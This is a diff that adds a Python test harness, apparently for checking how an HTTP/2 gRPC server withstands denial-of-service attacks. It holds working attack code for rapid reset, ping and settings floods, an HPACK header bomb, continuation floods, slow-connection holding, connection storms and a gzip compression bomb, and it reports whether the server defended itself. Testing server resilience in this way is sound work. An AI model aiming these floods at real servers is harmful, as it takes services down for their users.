@@ -1,0 +1,369 @@
+"""The attacks. Each runs for some seconds against a port and tells how the server defended itself.
+
+`python attacks.py NAME PORT SECONDS` prints one line of JSON: `{"defended": ..., "how": ...}`.
+"""
+
+import gzip
+import itertools
+import json
+import sys
+import time
+from collections.abc import Callable, Iterator
+
+from honest import simple_request, varint
+from hyperframe.frame import (
+    ContinuationFrame, DataFrame, ExtensionFrame, PingFrame, PriorityFrame, RstStreamFrame,
+    SettingsFrame, WindowUpdateFrame)
+from peer import CHAT, REQUEST, Gone, Peer, headers, message, request_fields, section
+
+ATTACKS: dict[str, Callable[[int, float], tuple[bool, str]]] = {}
+BATCH = 200
+
+
+def attack(function: Callable) -> Callable:
+    ATTACKS[function.__name__.replace("_", "-")] = function
+    return function
+
+
+# Floods: connection after connection, each until the server ends it
+
+
+def flood(
+    port: int, seconds: float, frames: Callable[[int], bytes], prepare: bytes = b"",
+    settings: dict | None = None, reads: bool = True
+) -> tuple[bool, str]:
+    until = time.monotonic() + seconds
+    ended = calmed = connections = sent = 0
+    while time.monotonic() < until:
+        try:
+            peer = Peer(port, settings)
+        except Gone:
+            time.sleep(0.01)
+            continue
+        connections += 1
+        try:
+            peer.send(prepare)
+            for batch in itertools.count():
+                if time.monotonic() > until:
+                    break
+                peer.send(b"".join(frames(batch * BATCH + index) for index in range(BATCH)))
+                sent += BATCH
+                if reads:
+                    peer.read()
+        except Gone:
+            pass
+        peer.read_until_closed(2)
+        ended += peer.is_closed
+        calmed += peer.was_calmed
+        peer.close()
+    how = f"{sent} frames on {connections} connections, {ended} ended, {calmed} with GOAWAY"
+    # The last one may have had no time for it.
+    return ended >= max(1, connections - 1), how
+
+
+def stream(index: int) -> int:
+    return 2 * index + 1
+
+
+@attack
+def rapid_reset(port, seconds):
+    return flood(
+        port, seconds,
+        lambda index: headers(stream(index)) + RstStreamFrame(stream(index), 8).serialize())
+
+
+@attack
+def rapid_reset_of_running_calls(port, seconds):
+    body = DataFrame(1, message(simple_request(100)), flags=["END_STREAM"]).serialize()
+    return flood(
+        port, seconds,
+        lambda index: headers(stream(index)) + body[:5] + stream(index).to_bytes(4, "big")
+        + body[9:] + RstStreamFrame(stream(index), 8).serialize())
+
+
+@attack
+def provoked_resets(port, seconds):
+    block = section(request_fields(more=(("connection", "close"),)))
+    return flood(port, seconds, lambda index: headers(stream(index), block))
+
+
+@attack
+def pings(port, seconds):
+    return flood(port, seconds, lambda _: PingFrame(0, b"attacker").serialize())
+
+
+@attack
+def pings_unread(port, seconds):
+    return flood(port, seconds, lambda _: PingFrame(0, b"attacker").serialize(), reads=False)
+
+
+@attack
+def settings(port, seconds):
+    return flood(
+        port, seconds, lambda index: SettingsFrame(0, settings={3: index % 100 + 1}).serialize())
+
+
+@attack
+def settings_unread(port, seconds):
+    return flood(port, seconds, lambda _: SettingsFrame(0).serialize(), reads=False)
+
+
+@attack
+def empty_data(port, seconds):
+    return flood(
+        port, seconds, lambda _: DataFrame(1, b"").serialize(), prepare=headers(1, CHAT))
+
+
+@attack
+def padded_data(port, seconds):
+    frame = DataFrame(1, b"", pad_length=100, flags=["PADDED"]).serialize()
+    return flood(port, seconds, lambda _: frame, prepare=headers(1, CHAT))
+
+
+@attack
+def tiny_windows(port, seconds):
+    call = DataFrame(1, message(simple_request(4 << 20)), flags=["END_STREAM"]).serialize()
+    return flood(
+        port, seconds, lambda _: WindowUpdateFrame(1, 1).serialize(), prepare=headers(1) + call,
+        settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
+
+
+@attack
+def priorities(port, seconds):
+    return flood(
+        port, seconds,
+        lambda index: PriorityFrame(stream(index), depends_on=0, stream_weight=1).serialize())
+
+
+@attack
+def unknown_frames(port, seconds):
+    return flood(
+        port, seconds, lambda _: ExtensionFrame(0xBE, 1, flag_byte=0, body=b"x" * 100).serialize())
+
+
+@attack
+def continuations(port, seconds):
+    begin = bytearray(headers(1))
+    begin[4] = 0
+    field = section([("x", "y" * 100)])
+    return flood(
+        port, seconds, lambda _: ContinuationFrame(1, field).serialize(), prepare=bytes(begin))
+
+
+@attack
+def header_bomb(port, seconds):
+    """One large entry of HPACK's dynamic table, named by a byte each time."""
+    entry = b"\x40" + b"\x01x" + b"\x7f" + varint(3_000 - 127) + b"y" * 3_000
+    first = headers(1, REQUEST + entry, "END_STREAM")
+    bomb = REQUEST + b"\xbe" * 12_000
+    return flood(
+        port, seconds, lambda index: headers(stream(index + 1), bomb, "END_STREAM"), prepare=first)
+
+
+@attack
+def many_fields(port, seconds):
+    block = section(request_fields(more=tuple((f"x-{index}", "y") for index in range(300))))
+    return flood(port, seconds, lambda index: headers(stream(index), block, "END_STREAM"))
+
+
+@attack
+def too_many_streams(port, seconds):
+    return flood(port, seconds, lambda index: headers(stream(index), CHAT))
+
+
+@attack
+def garbage(port, seconds):
+    return flood(port, seconds, lambda index: bytes([index * 7 % 256]) * 50)
+
+
+# Holding on: as many connections as there may be, each as slow as can be
+
+
+def hold(
+    port: int, seconds: float, begin: Callable[[Peer], None],
+    dribble: Callable[[Peer, int], None] | None = None, hello: bool = True, count: int = 150
+) -> Iterator[Peer]:
+    """Opens connections, keeps them alive with a byte now and then, opens new ones for old."""
+    until = time.monotonic() + seconds
+    peers: list[Peer] = []
+    for turn in itertools.count():
+        while len(peers) < count and time.monotonic() < until:
+            try:
+                peer = Peer(port, hello=hello)
+                peers.append(peer)
+                begin(peer)
+            except Gone:
+                break
+        for peer in peers:
+            try:
+                if dribble:
+                    dribble(peer, turn)
+                peer.read()
+            except Gone:
+                pass
+        yield from (peer for peer in peers if peer.is_closed)
+        peers = [peer for peer in peers if not peer.is_closed]
+        if time.monotonic() >= until:
+            break
+        time.sleep(0.1)
+    for peer in peers:
+        yield peer
+        peer.close()
+
+
+def held(peers: Iterator[Peer]) -> tuple[bool, str]:
+    opened = ended = calmed = exhausted = 0
+    for peer in peers:
+        opened += 1
+        ended += peer.is_closed
+        calmed += peer.was_calmed
+        exhausted += peer.statuses.get("8", 0)
+    how = (
+        f"{opened} connections, {ended} ended, {calmed} with GOAWAY, "
+        f"{exhausted} RESOURCE_EXHAUSTED")
+    return ended > 0 or exhausted > 0, how
+
+
+@attack
+def slow_headers(port, seconds):
+    block = headers(1)
+    return held(hold(
+        port, seconds, lambda peer: peer.send(block[:20]),
+        lambda peer, turn: peer.send(block[20 + turn : 21 + turn])))
+
+
+@attack
+def slow_preface(port, seconds):
+    return held(hold(
+        port, seconds, lambda peer: peer.send(b"PRI"),
+        lambda peer, turn: peer.send(b" * HTTP/2.0"[turn : turn + 1]), hello=False))
+
+
+@attack
+def silent_connections(port, seconds):
+    return held(hold(port, seconds, lambda peer: None, hello=False))
+
+
+@attack
+def idle_connections(port, seconds):
+    return held(hold(port, seconds, lambda peer: None))
+
+
+@attack
+def slow_bodies(port, seconds):
+    def begin(peer):
+        body = message(bytes(1_000))
+        for index in range(50):
+            peer.send(headers(stream(index)) + DataFrame(stream(index), body[:10]).serialize())
+
+    def dribble(peer, turn):
+        peer.send(DataFrame(stream(turn % 50), b"\0").serialize())
+
+    return held(hold(port, seconds, begin, dribble, count=10))
+
+
+@attack
+def large_unfinished_bodies(port, seconds):
+    """All of a large message but its end, many times."""
+    part = bytes(16_384)
+
+    def begin(peer):
+        length = (4 << 20).to_bytes(4, "big")
+        for index in range(20):
+            peer.send(
+                headers(stream(index), CHAT)
+                + DataFrame(stream(index), b"\0" + length).serialize())
+        for _ in range(15):
+            for index in range(20):
+                peer.send(DataFrame(stream(index), part).serialize())
+            peer.read()
+
+    return held(hold(port, seconds, begin, count=60))
+
+
+@attack
+def open_calls(port, seconds):
+    def begin(peer):
+        peer.send(b"".join(headers(stream(index), CHAT) for index in range(90)))
+
+    return held(hold(port, seconds, begin, count=20))
+
+
+@attack
+def unread_responses(port, seconds):
+    call = message(simple_request(1 << 20))
+
+    def begin(peer):
+        peer.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
+        for index in range(80):
+            peer.send(
+                headers(stream(index))
+                + DataFrame(stream(index), call, flags=["END_STREAM"]).serialize())
+
+    return held(hold(port, seconds, begin, count=4))
+
+
+@attack
+def connection_storm(port, seconds):
+    """Connections come and go as fast as they can."""
+    until = time.monotonic() + seconds
+    count = refused = 0
+    while time.monotonic() < until:
+        peers = []
+        for _ in range(200):
+            try:
+                peers.append(Peer(port))
+            except Gone:
+                pass
+        count += len(peers)
+        for peer in peers:
+            peer.read(0.01)
+            refused += peer.is_closed
+            peer.close()
+    return refused > 0, f"{count} connections, {refused} refused"
+
+
+# Messages that are more than they seem
+
+
+def calls(port: int, seconds: float, block: bytes, body: bytes) -> tuple[bool, str]:
+    until = time.monotonic() + seconds
+    sent = exhausted = 0
+    while time.monotonic() < until:
+        peer = Peer(port)
+        try:
+            for index in range(200):
+                peer.send(
+                    headers(stream(index), block)
+                    + DataFrame(stream(index), body, flags=["END_STREAM"]).serialize())
+                sent += 1
+                if index % 20 == 19:
+                    while sum(peer.statuses.values()) <= index and not peer.is_closed:
+                        peer.read(1)
+        except Gone:
+            pass
+        exhausted += peer.statuses.get("8", 0)
+        peer.close()
+    return exhausted > 0, f"{sent} calls, {exhausted} RESOURCE_EXHAUSTED"
+
+
+@attack
+def compression_bomb(port, seconds):
+    bomb = gzip.compress(bytes(8 << 20))
+    block = section(request_fields(more=(("grpc-encoding", "gzip"),)))
+    return calls(port, seconds, block, message(bomb, compressed=True))
+
+
+@attack
+def announced_size(port, seconds):
+    return calls(port, seconds, REQUEST, b"\0\xff\xff\xff\xff")
+
+
+def main() -> None:
+    name, port, seconds = sys.argv[1:]
+    defended, how = ATTACKS[name](int(port), float(seconds))
+    print(json.dumps({"defended": defended, "how": how}))
+
+
+if __name__ == "__main__":
+    main()
